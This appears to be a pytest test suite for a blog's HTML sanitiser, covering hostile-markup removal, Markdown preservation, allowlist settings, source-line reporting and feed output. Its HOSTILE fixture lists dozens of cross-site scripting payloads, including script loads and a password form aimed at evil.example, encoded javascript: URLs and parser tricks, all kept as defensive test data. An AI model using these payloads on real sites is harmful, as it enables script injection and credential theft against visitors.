"""The diary HTML sanitiser: hostile markup class by class is removed and named, everything
Python-Markdown writes with Pelican's extensions stays, and a site can allow more, within limits."""

from __future__ import annotations

import datetime as dt

import lxml.html
import markdown
import pytest
from inert import dangers
from lxml import etree
from pelican.settings import DEFAULT_CONFIG

from trialblog.render.feeds import FeedItem, build_feed
from trialblog.render.sanitize import NEVER_TAGS, allowed_html, sanitize, source_lines

# Each class of hostile markup, in several spellings; each would run a script, leave the page,
# submit what a reader types or load another document.
HOSTILE = {
    "script": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script/src=//evil.example/x.js></script>",
        "<scr<script>ipt>alert(1)</script>",
        '<script type="module">import "//evil.example/x.js"</script>',
    ],
    "event handler": [
        "<img src=x onerror=alert(1)>",
        '<p onclick="alert(1)">click</p>',
        "<a href=/ OnMouseOver=alert(1)>x</a>",
        "<img src=x onerror  =  alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        '<span/onpointerenter="alert(1)">x</span>',
    ],
    "javascript: address": [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href=" \tjavascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
        '<a href="javascript&colon;alert(1)">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<img src="javascript:alert(1)">',
    ],
    "data: address": [
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    ],
    "meta refresh": [
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<META HTTP-EQUIV=REFRESH CONTENT='0; URL=javascript:alert(1)'>",
    ],
    "base": ['<base href="https://evil.example/">', "<base target=_blank>"],
    "form": [
        '<form action="https://evil.example/"><input name="password"><button>Send</button></form>',
        '<input type="image" src="x" formaction="javascript:alert(1)">',
        "<textarea>x</textarea><select><option>a</option></select>",
        '<button formaction="https://evil.example/">x</button>',
    ],
    "embedded document": [
        '<iframe src="https://evil.example/"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<embed src="https://evil.example/x.swf">',
        '<frameset><frame src="https://evil.example/"></frameset>',
        '<applet code="x.class"></applet>',
    ],
    "style": [
        "<style>body { background: url(javascript:alert(1)) }</style>",
        '<p style="width: expression(alert(1))">x</p>',
        '<div style="background:url(javascript:alert(1))">x</div>',
        '<table><tr><td style="text-align: left; background: url(https://evil.example/track)">x</td></tr></table>',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
    ],
    "svg and mathml": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    ],
    "parser tricks": [
        "<!--><img src=x onerror=alert(1)>-->",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<template><img src=x onerror=alert(1)></template>",
        '<img src="x" alt="&quot; onerror=&quot;alert(1)">',
        "<xmp><img src=x onerror=alert(1)></xmp>",
    ],
}


CASES = [(kind, html) for kind, examples in HOSTILE.items() for html in examples]


@pytest.mark.parametrize(("kind", "html"), CASES, ids=[f"{k}-{i}" for i, (k, _) in enumerate(CASES)])
def test_hostile_markup_is_removed_and_named(kind, html):
    entry = f"<p>Before.</p>\n{html}\n<p>After.</p>"
    cleaned, removed = sanitize(entry)
    assert dangers(cleaned) == [], cleaned
    assert "Before." in cleaned and "After." in cleaned
    if dangers(html):
        assert removed and all(isinstance(r, str) and r for r in removed)


def test_what_was_removed_is_said_in_words():
    _, removed = sanitize(
        '<p onclick="x()">a</p><script>x()</script><form><input></form><a href="javascript:x()">b</a>'
        '<table><tr><td style="color: red">c</td></tr></table><iframe src="https://x.example/"></iframe>'
    )
    assert removed == [
        "the onclick attribute of <p>",
        "<script> and its content",
        "<form> (its text kept)",
        "<input>",
        "a javascript: address in the href of <a>",
        "a style other than text-align on <td>",
        "<iframe> (its text kept)",
    ]


def pelican_markdown(text: str, toc: bool = True) -> str:
    config = DEFAULT_CONFIG["MARKDOWN"]
    extensions = [*config["extension_configs"], *(["markdown.extensions.toc"] if toc else [])]
    configs = {**config["extension_configs"], "markdown.extensions.toc": {"permalink": True}}
    return markdown.Markdown(
        extensions=extensions, extension_configs=configs, output_format=config["output_format"]
    ).convert(text)


EVERYTHING_MARKDOWN_WRITES = """\
# A heading {: #custom-id .wide }

[TOC]

Some *emphasis*, **strong**, `code`, a footnote[^note] and an abbreviation: HTML.

*[HTML]: Hyper Text Markup Language

| Left | Centre | Right |
|:-----|:------:|------:|
| a    | b      | c     |

Term
:   Its definition.

![A photo](/images/photo.jpg "The title"){: width="200" height="100" }

[a link](https://example.org/path?a=1&b=2 "Link title"), [relative](../tags/x.html), [static]({static}/images/x.jpg),
<https://auto.example> and <me@example.org>.

```python
def f(x):
    return x < 1 and "<script>"
```

    indented code <b>

> A quote with `code <i>`.

1. one
2. two

<div markdown="1">**Markdown in HTML**</div>

<details><summary>More</summary>Hidden <mark>text</mark>, H<sub>2</sub>O, x<sup>2</sup>.</details>

***

[^note]: The footnote.
"""


def tree(html: str) -> list[tuple]:
    """Elements, attributes (but ``rel``, which nh3 adds to links) and text, as a browser reads them."""
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    out = []
    for element in root.iter():
        attributes = {
            k: v.replace(" ", "").rstrip(";") if k == "style" else v
            for k, v in element.attrib.items()
            if k != "rel"
        }
        out.append((element.tag, attributes, element.text, element.tail))
    return out


def test_everything_markdown_writes_is_kept():
    html = pelican_markdown(EVERYTHING_MARKDOWN_WRITES)
    for part in ('class="highlight"', 'class="footnote"', 'id="fnref:note"', 'class="toc"', "<abbr",
                 "<table", 'style="text-align: center;"', "<dl>", 'width="200"', 'class="headerlink"'):  # fmt: skip
        assert part in html, part  # Markdown wrote it: the comparison below covers it
    cleaned, removed = sanitize(html)
    assert removed == []
    assert tree(cleaned) == tree(html)
    assert 'href="{static}/images/x.jpg"' in cleaned  # Pelican links it after reading
    assert all(a.get("rel") == "noopener noreferrer" for a in lxml.html.fragment_fromstring(
        cleaned, create_parent="div").iter("a"))  # fmt: skip


def test_comments_are_not_published():
    cleaned, removed = sanitize("<p>Shown<!-- my private note: room 12 --></p>")
    assert cleaned == "<p>Shown</p>" and removed == []


# --- the site's setting ---------------------------------------------------------------------------


def test_a_site_can_allow_more():
    html = '<video src="/clip.mp4" controls width="320">Your browser has no video.</video>'
    assert "<video" not in sanitize(html)[0]
    tags, attributes = allowed_html(
        {"tags": ["video"], "attributes": {"video": ["src", "controls", "width"]}}
    )
    cleaned, removed = sanitize(html, tags, attributes)
    assert removed == [] and tree(cleaned) == tree(html)
    hostile, removed = sanitize(
        '<video src="javascript:alert(1)" onplay="alert(1)">v</video>', tags, attributes
    )
    assert dangers(hostile) == [] and len(removed) == 2
    assert allowed_html(None) == (frozenset(), {})


@pytest.mark.parametrize(
    "setting",
    [
        "video",
        ["video"],
        {"tag": ["video"]},
        {"tags": "video"},
        {"tags": [1]},
        {"tags": ["Video"]},
        {"tags": ["video"], "attributes": ["src"]},
        {"tags": ["video"], "attributes": {"video": "src"}},
        {"attributes": {"video": ["src"]}},
        {"attributes": {"a": ["target", 5]}},
        *({"tags": [tag]} for tag in sorted(NEVER_TAGS)),
        *(
            {"attributes": {"*": [name]}}
            for name in ("onclick", "onload", "srcdoc", "style", "rel", "formaction")
        ),
    ],
)
def test_a_setting_that_is_wrong_or_unsafe_is_refused_by_name(setting):
    with pytest.raises(ValueError, match="TRIALBLOG_ALLOWED_HTML"):
        allowed_html(setting)


def test_the_sanitiser_refuses_unsafe_extras_too():
    with pytest.raises(ValueError, match="TRIALBLOG_ALLOWED_HTML"):
        sanitize("<p>x</p>", ["script"])
    with pytest.raises(ValueError, match="TRIALBLOG_ALLOWED_HTML"):
        sanitize("<p>x</p>", (), {"*": ["onerror"]})


# --- lines ------------------------------------------------------------------------------------------


def test_removed_markup_is_found_on_its_line_of_the_markdown():
    text = (
        "Title: Day 3\n"  # 1
        "Date: 2024-03-01\n"  # 2
        "\n"  # 3
        "Shown as code: `<script>` and\n"  # 4
        "\n"  # 5
        "```html\n<script>not this one</script>\n```\n"  # 6-8
        "\n"  # 9
        "<script>alert(1)</script>\n"  # 10
        '<img src="x.jpg" onerror="alert(1)">\n'  # 11
        "\n"  # 12
        '[a link](javascript:alert(1)) and <a href="&#106;avascript:x">b</a>\n'  # 13
        "\n"  # 14
        "<script>again()</script>\n"  # 15
        "![photo](x.jpg){: onload=alert(1) }\n"  # 16
    )
    body = text.split("\n\n", 1)[1]
    _, removed = sanitize(pelican_markdown(body, toc=False))
    assert source_lines(text, removed) == [
        (10, "<script> and its content"),
        (11, "the onerror attribute of <img>"),
        (13, "a javascript: address in the href of <a>"),
        (13, "a javascript: address in the href of <a>"),
        (15, "<script> and its content"),
        (16, "the onload attribute of <img>"),
    ]


def test_a_removal_that_cannot_be_placed_has_no_line():
    assert source_lines("Title: x\n\nNothing here.\n", ["<script> and its content"]) == [
        (None, "<script> and its content")
    ]


# --- feeds ------------------------------------------------------------------------------------------


def test_feed_entries_carry_only_allowed_markup():
    when = dt.datetime(2024, 3, 1, tzinfo=dt.UTC)
    body = "".join(html for _, html in CASES)
    item = FeedItem("urn:uuid:1", "Day", "https://x.example/d/", when, when, f"<p>Body</p>{body}")
    atom, rss = build_feed(
        "Diary", "https://x.example/a.xml", "https://x.example/r.xml", "https://x.example/", [item]
    )
    atom_content = etree.fromstring(atom).find(".//{http://www.w3.org/2005/Atom}content")
    rss_content = etree.fromstring(rss).find(".//item/description")  # the body, when there is no summary
    for payload in (atom_content.text, rss_content.text):
        assert "Body" in payload and dangers(payload) == []
